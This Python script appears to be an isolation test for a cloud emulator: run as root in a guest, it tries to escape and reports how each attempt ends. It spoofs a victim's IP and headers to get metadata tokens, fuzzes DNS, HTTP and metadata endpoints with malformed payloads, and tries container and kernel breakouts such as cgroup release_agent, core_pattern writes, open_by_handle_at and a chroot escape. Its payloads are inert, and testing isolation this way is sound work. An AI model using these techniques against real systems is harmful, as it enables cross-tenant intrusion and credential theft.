"""Runs inside a machine, as its root, and tries to get out: prints how each attempt ended, as JSON.

It is handed over as text, and knows nothing but what its argument tells it. An attempt ends with the
name of the error that refused it, or with "done".
"""
import concurrent.futures
import ctypes
import errno
import json
import os
import platform
import random
import socket
import stat
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {"x86_64": {"bpf": 321, "perf_event_open": 298, "kexec_load": 246},
           "aarch64": {"bpf": 280, "perf_event_open": 241, "kexec_load": 104}}[platform.machine()]
SILENCE_SECONDS = 1
MS_REMOUNT, MS_BIND = 32, 4096

told, found = {}, {}


def attempt(act, *words):
    try:
        answer = act(*words)
        return "done" if answer is None else answer
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def called(answer):
    """The answer of a function of libc, which must not be negative."""
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")


def mount(source, place, type_, flags=0, options=None):
    os.makedirs(place, exist_ok=True)
    called(LIBC.mount(source.encode(), place.encode(), type_.encode(), flags,
                      options.encode() if options else None))


def system_call(name, *words):
    called(LIBC.syscall(NUMBERS[name], *words))


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


# --- Over the network ---

def greeting(address, port, kind):
    """What a service of the test says to whoever reaches it; "" when nobody says anything."""
    with socket.socket(socket.AF_INET, kind) as made:
        made.settimeout(SILENCE_SECONDS)
        try:
            made.connect((address, port))
            if kind == socket.SOCK_DGRAM:
                made.send(b"anybody")
            return made.recv(100).decode()
        except OSError:
            return ""


def ask(url, method="GET", headers=None, body=None, source=None):
    """Status and text of an answer; 0 when there is none."""
    host = url.split("/")[2]
    path = "/" + url.split("/", 3)[3]
    try:
        with socket.socket() as made:
            made.settimeout(SILENCE_SECONDS)
            if source:
                made.bind(source)
            made.connect((host, 80))
            head = {"Host": host, "Connection": "close", "Content-Length": len(body or ""),
                    **(headers or {})}
            made.sendall("\r\n".join([f"{method} {path} HTTP/1.1",
                                      *(f"{name}: {value}" for name, value in head.items()), "",
                                      body or ""]).encode())
            said = b""
            while piece := made.recv(65536):
                said += piece
        return [int(said.split()[1]), said.split(b"\r\n\r\n", 1)[1].decode()]
    except (OSError, IndexError):
        return [0, ""]


def try_services():
    kinds = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}
    with concurrent.futures.ThreadPoolExecutor(len(told["services"])) as pool:
        asked = {name: pool.submit(greeting, address, port, kinds[kind])
                 for name, address, port, kind in told["services"]}
    found["services"] = {name: answer.result() for name, answer in asked.items()}


METADATA = "http://169.254.169.254"
LIFE = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
TOKEN = "X-aws-ec2-metadata-token"


def who_am_i(token, **more):
    return ask(METADATA + "/latest/meta-data/instance-id", headers={TOKEN: token, **more})


def try_metadata():
    _, own = ask(METADATA + "/latest/api/token", "PUT", LIFE)
    found["metadata"] = {
        "own": who_am_i(own),
        "by a victim's token": who_am_i(told["victim_token"]),
        "forwarded": who_am_i(own, **{"X-Forwarded-For": told["victim_address"],
                                      "Forwarded": "for=" + told["victim_address"]}),
        "token for another": ask(METADATA + "/latest/api/token", "PUT",
                                 {**LIFE, "X-Forwarded-For": told["victim_address"]}),
        "a victim's volume": ask(METADATA + "/_windlass/mount", "PUT", source=("0.0.0.0", 900),
                                 body=json.dumps({"device": told["victim_device"],
                                                  "folder": "/mnt"})),
    }
    # In the victim's name: its address on this machine's own interface.
    os.system(f"ip address add {told['victim_address']}/32 dev eth0")
    found["metadata"]["in a victim's name"] = ask(
        METADATA + "/latest/api/token", "PUT", LIFE, source=(told["victim_address"], 0))
    os.system(f"ip address del {told['victim_address']}/32 dev eth0")


def try_desk():
    """What is for the person at the desk only."""
    found["desk"] = {}
    for host in (None, "localhost", "127.0.0.1:4566"):
        for path, method in (("/_windlass/machines", "GET"), ("/_windlass/reset", "POST"),
                             ("/_windlass/health", "GET"), ("/%5Fwindlass/machines", "GET"),
                             ("//_windlass/machines", "GET"), ("/./_windlass/accounts", "GET")):
            for address in ("169.254.170.1", "169.254.169.254"):
                status, text = ask(f"http://{address}{path}", method,
                                   {"Host": host} if host else None)
                found["desk"][f"{method} {path} of {address} as {host}"] = [status, text[:200]]


# --- At the cloud's own services ---

NAMES, ENDPOINT = ("169.254.169.253", 53), "169.254.170.1"
QUESTION = b"\0\7\1\0\0\1\0\0\0\0\0\0\3web\4test\0\0\1\0\1"
REQUESTS = [
    b"GET / HTTP/1.1\r\nX: " + b"y" * 100_000 + b"\r\n\r\n",
    b"G" * 70_000 + b" / HTTP/1.1\r\n\r\n",
    b"PUT /b/k HTTP/1.1\r\nHost: s3.amazonaws.com\r\nContent-Length: -1\r\n\r\n",
    b"PUT /b/k HTTP/1.1\r\nHost: s3.amazonaws.com\r\nContent-Length: 99999999999999\r\n\r\nx",
    b"PUT /latest/api/token HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx",
    b"POST / HTTP/1.1\r\nHost: sqs.amazonaws.com\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n",
    b"GET /latest/meta-data/%00%ff%2e%2e/ HTTP/1.1\r\nHost: \0\r\n\r\n",
    b"GET " + b"/" * 30_000 + b"\r\n\r\n",
    b"PUT /_windlass/mount HTTP/1.1\r\nContent-Length: 5\r\n\r\n[[[[[",
    b"\x16\x03\x01\xff\xff" + b"\0" * 600,
    b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 500,
]


def throw(address, port, data):
    """Sends it, and breaks the connection off in the middle of whatever comes."""
    with socket.socket() as made:
        made.settimeout(SILENCE_SECONDS)
        try:
            made.connect((address, port))
            made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            made.sendall(data)
            made.recv(10)
        except OSError:
            pass


def spoilt(data, dice):
    data = bytearray(data)
    for _ in range(dice.randint(1, 8)):
        data[dice.randrange(len(data))] = dice.choice((0, 0xc0, 0xff, dice.randrange(256)))
    return bytes(data)


def try_to_break():
    """Nothing of this may be more than noise to the cloud."""
    dice = random.Random(4)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        for number in range(600):
            made.sendto(spoilt(QUESTION, dice) if number % 2 else dice.randbytes(number), NAMES)
    name, address, port, _ = next(one for one in told["services"] if one[0] == "the internet")
    thrown = [(*NAMES, head + QUESTION) for head in (b"\0\0", b"\xff\xff", b"\0\x1a", b"\0\x05")]
    for where in (("169.254.169.254", 80), (ENDPOINT, 80), (ENDPOINT, 443)):
        thrown += [(*where, data) for data in REQUESTS]
        thrown += [(*where, spoilt(dice.choice(REQUESTS), dice)) for _ in range(30)]
    thrown += [(address, port, b"x" * dice.randrange(1, 5000)) for _ in range(150)]
    thrown += [(address, 1 + number, b"x") for number in range(50)]
    with concurrent.futures.ThreadPoolExecutor(24) as pool:
        for one in thrown:
            pool.submit(throw, *one)
    _, own = ask(METADATA + "/latest/api/token", "PUT", LIFE)
    found["after the noise"] = [who_am_i(own), greeting(address, port, socket.SOCK_STREAM)]


# --- At the kernel ---

# Of the machine's own namespaces, and nobody else's.
OWN_SETTINGS = ("net/", "user/", "fs/mqueue/", "kernel/msg", "kernel/sem", "kernel/shm",
                "kernel/auto_msgmni", "kernel/hostname", "kernel/domainname", "kernel/ns_last_pid",
                "kernel/pid_max")


def open_for_writing(top, own=()):
    """Files below it that can be opened for writing."""
    opened = []
    for folder, folders, files in os.walk(top):
        folders[:] = [one for one in folders if not os.path.islink(os.path.join(folder, one))]
        for name in files:
            path = os.path.join(folder, name)
            if path[len(top) + 1:].startswith(own):
                continue
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                opened.append(path)
            except OSError:
                pass
    return opened


def try_settings():
    found["remount"] = attempt(mount, "none", "/proc/sys", "none", MS_REMOUNT | MS_BIND)
    attempt(mount, "proc", "/tmp/proc", "proc")
    attempt(mount, "none", "/sys", "none", MS_REMOUNT | MS_BIND)
    attempt(mount, "sysfs", "/tmp/sysfs", "sysfs")
    tops = [top for top in ("/proc/sys", "/tmp/proc/sys") if os.path.isdir(top)]
    found["settings"] = [path for top in tops for path in open_for_writing(top, OWN_SETTINGS)]
    found["settings tried"] = sum(len(files) for _, _, files in os.walk("/proc/sys"))
    found["devices' files"] = [path for top in ("/sys", "/tmp/sysfs") if os.path.isdir(top)
                               for path in open_for_writing(top, ("fs/cgroup/",))]
    attempt(write, "/proc/sys/kernel/pid_max", "12345")
    found["core_pattern"] = attempt(write, "/proc/sys/kernel/core_pattern", "|/bin/false")
    found["sysrq"] = attempt(write, "/proc/sysrq-trigger", "h")


def try_devices():
    found["nodes"] = {}
    for name, kind, major, minor in [("memory", stat.S_IFCHR, 1, 1), ("log", stat.S_IFCHR, 1, 11),
                                     ("loop", stat.S_IFBLK, 7, 0), *told["disks"]]:
        found["nodes"][name] = attempt(os.mknod, "/tmp/node-" + name, kind | 0o600,
                                       os.makedev(major, minor))
    found["devices"] = []
    for folder, folders, files in os.walk("/dev"):
        folders[:] = [one for one in folders if one not in ("pts", "shm", "mqueue")]
        for name in files:
            status = os.lstat(os.path.join(folder, name))
            if stat.S_ISCHR(status.st_mode) or stat.S_ISBLK(status.st_mode):
                found["devices"].append(name)


def try_mounts():
    found["mounts"] = {
        type_: attempt(mount, type_, "/tmp/mount-" + type_, type_)
        for type_ in ("debugfs", "tracefs", "securityfs", "devtmpfs", "configfs", "pstore", "bdev")}
    found["mounts"]["disk"] = attempt(mount, told["own_device"], "/tmp/mount-disk", "ext4")


def try_kernel():
    nothing = ctypes.create_string_buffer(256)
    found["kernel"] = {
        "load a module": attempt(lambda: called(LIBC.init_module(nothing, 256, b""))),
        "remove a module": attempt(lambda: called(LIBC.delete_module(b"nothing", 0o4000))),
        "another kernel": attempt(system_call, "kexec_load", 0, 0, None, 0),
        "a program in the kernel": attempt(system_call, "bpf", 5, nothing, 72),
        "watch all processors": attempt(system_call, "perf_event_open", nothing, -1, 0, -1, 0),
        "set the clock": attempt(time.clock_settime, time.CLOCK_REALTIME, time.time()),
        "swap": attempt(lambda: called(LIBC.swapon(b"/etc/passwd", 0))),
        "the hypervisor": attempt(lambda: socket.socket(40, socket.SOCK_STREAM).close()),
    }


def try_control_groups():
    """release_agent is a program that the host's root runs."""
    found["agents"], found["limits"] = {}, {}
    with open("/proc/cgroups") as file:
        kinds = [line.split()[0] for line in file if not line.startswith("#")]
    for kind in [*kinds, "none,name=systemd", "none,name=own"]:
        place = "/tmp/group-" + kind.split("=")[-1]
        mounted = attempt(mount, "cgroup", place, "cgroup", 0, kind)
        if mounted == "done":
            found["agents"][kind] = attempt(write, place + "/release_agent", "/bin/false")
            if kind == "memory":
                found["limits"][kind] = attempt(write, place + "/memory.limit_in_bytes", "-1")
        else:
            found["agents"][kind] = mounted
    found["own group"] = open("/proc/self/cgroup").read()
    if os.path.exists("/sys/fs/cgroup/memory.max"):
        found["limits"]["memory.max"] = attempt(write, "/sys/fs/cgroup/memory.max", "max")


# --- At files ---

class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def open_by_handle(place, handle):
    wanted = Handle(len(handle["bytes"]) // 2, handle["kind"],
                    (ctypes.c_ubyte * 128)(*bytes.fromhex(handle["bytes"])))
    base = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
    try:
        called(LIBC.open_by_handle_at(base, ctypes.byref(wanted), os.O_RDONLY))
    finally:
        os.close(base)


def try_files():
    with open("/proc/self/mountinfo") as file:
        places = {line.split()[4] for line in file}
    found["handles"] = {}
    for name, handle in told["handles"].items():
        outcomes = {attempt(open_by_handle, place, handle) for place in places}
        found["handles"][name] = sorted(outcomes)
    found["files"] = [path for path in told["paths"] if os.path.exists(path)]
    found["processes"] = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            line = open(f"/proc/{pid}/cmdline").read()
        except OSError:
            continue
        if int(pid) != os.getpid() and told["state"] in line:
            found["processes"].append(line)
    found["descriptors"] = []
    for link in [*(f"/proc/self/fd/{one}" for one in os.listdir("/proc/self/fd")),
                 *(f"/proc/1/fd/{one}" for one in os.listdir("/proc/1/fd"))]:
        if any(os.path.exists(link + path) for path in told["paths"]) or \
                told["state"] in attempt(os.readlink, link):
            found["descriptors"].append(link)
    # Out of a folder that was made the root while we stood outside of it.
    os.makedirs("/tmp/cell", exist_ok=True)
    os.chroot("/tmp/cell")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    found["files"] += ["out of a cell: " + path for path in told["paths"] if os.path.exists(path)]
    found["own root"] = os.path.exists("/usr/lib/windlass")


if __name__ == "__main__":
    told.update(json.loads(sys.argv[1]))
    for step in (try_services, try_metadata, try_desk, try_to_break, try_devices, try_mounts,
                 try_kernel, try_control_groups, try_settings, try_files):
        step()
    print(json.dumps(found))
